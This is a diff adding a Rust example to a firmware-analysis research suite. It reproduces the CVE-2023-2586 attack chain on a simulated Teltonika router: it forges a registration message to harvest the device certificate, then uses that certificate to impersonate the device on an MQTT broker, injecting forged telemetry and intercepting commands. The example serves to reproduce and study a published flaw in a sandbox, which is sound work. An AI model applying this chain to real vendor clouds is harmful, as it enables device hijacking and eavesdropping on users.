@@ -1,0 +1,95 @@
+//! The complete CVE-2023-2586 attack chain, end to end:
+//!
+//! 1. FIRMRES reconstructs the Teltonika registration message from the
+//!    firmware and flags its weak form (identifiers only).
+//! 2. The forged registration is sent to the vendor cloud, which returns
+//!    the device certificate.
+//! 3. The attacker connects to the vendor's MQTT broker *with the leaked
+//!    certificate*, impersonating the device: pushing forged telemetry to
+//!    the victim's app and eavesdropping on the device's command channel.
+//!
+//! ```text
+//! cargo run --release --example mqtt_impersonation
+//! ```
+
+use firmres::{fill_message, probe_cloud};
+use firmres_cloud::mqtt::{Broker, MqttAuth};
+use firmres_suite::prelude::*;
+
+fn main() {
+    let device = generate_device(11, 7); // Teltonika RUT241
+    println!("target: {} {}\n", device.spec.vendor, device.spec.model);
+
+    // Step 1: static reconstruction.
+    let analysis = analyze_firmware(&device.firmware, None, &AnalysisConfig::default());
+    let registration = analysis
+        .identified()
+        .find(|m| m.function == "snd_00")
+        .expect("registration message");
+    println!("[1] reconstructed: {}", registration.message);
+    for flaw in &registration.flaws {
+        println!("    form check: {flaw}");
+    }
+
+    // Step 2: forge it and harvest the certificate.
+    let filled = fill_message(&registration.message, &device.firmware);
+    let outcome = probe_cloud(&device.cloud, &filled);
+    println!("\n[2] forged registration → {}", outcome.status);
+    let cert = outcome
+        .leaked
+        .iter()
+        .find(|(k, _)| k == "certificate")
+        .map(|(_, v)| v.clone())
+        .expect("certificate leaked");
+    println!("    certificate obtained: {cert}");
+    assert_eq!(cert, device.identity.secret);
+
+    // Step 3: become the device on the MQTT broker.
+    let state = device.cloud.with_state(|s| s.clone());
+    let mut broker = Broker::new(state);
+    let victim = broker
+        .connect(
+            "victim-app",
+            MqttAuth::UserPass {
+                user: device.identity.user.clone(),
+                password: device.identity.password.clone(),
+            },
+        )
+        .expect("victim's app connects");
+    let device_topic = format!("/dev/{}/telemetry", device.identity.device_id);
+    let cmd_filter = format!("/dev/{}/cmd/#", device.identity.device_id);
+    broker.subscribe(victim, &device_topic).unwrap();
+
+    let attacker = broker
+        .connect("attacker", MqttAuth::DeviceCert { cert })
+        .expect("leaked certificate authenticates");
+    println!(
+        "\n[3] attacker connected to the broker as device {}",
+        broker.session_device(attacker).unwrap()
+    );
+    broker
+        .publish(attacker, &device_topic, "{\"rssi\":-30,\"tamper\":false}")
+        .unwrap();
+    let seen = broker.poll(victim).unwrap();
+    println!("    victim's app received forged telemetry: {}", seen[0].payload);
+
+    broker.subscribe(attacker, &cmd_filter).unwrap();
+    let cloud_svc = broker
+        .connect(
+            "cloud-svc",
+            MqttAuth::UserPass {
+                user: device.identity.user.clone(),
+                password: device.identity.password.clone(),
+            },
+        )
+        .unwrap();
+    broker
+        .publish(cloud_svc, &format!("/dev/{}/cmd/reboot", device.identity.device_id), "{}")
+        .unwrap();
+    let intercepted = broker.poll(attacker).unwrap();
+    println!(
+        "    attacker intercepted a device command: {} on {}",
+        intercepted[0].payload, intercepted[0].topic
+    );
+    println!("\nremote and complete control over the running device — the paper's §III-A outcome.");
+}
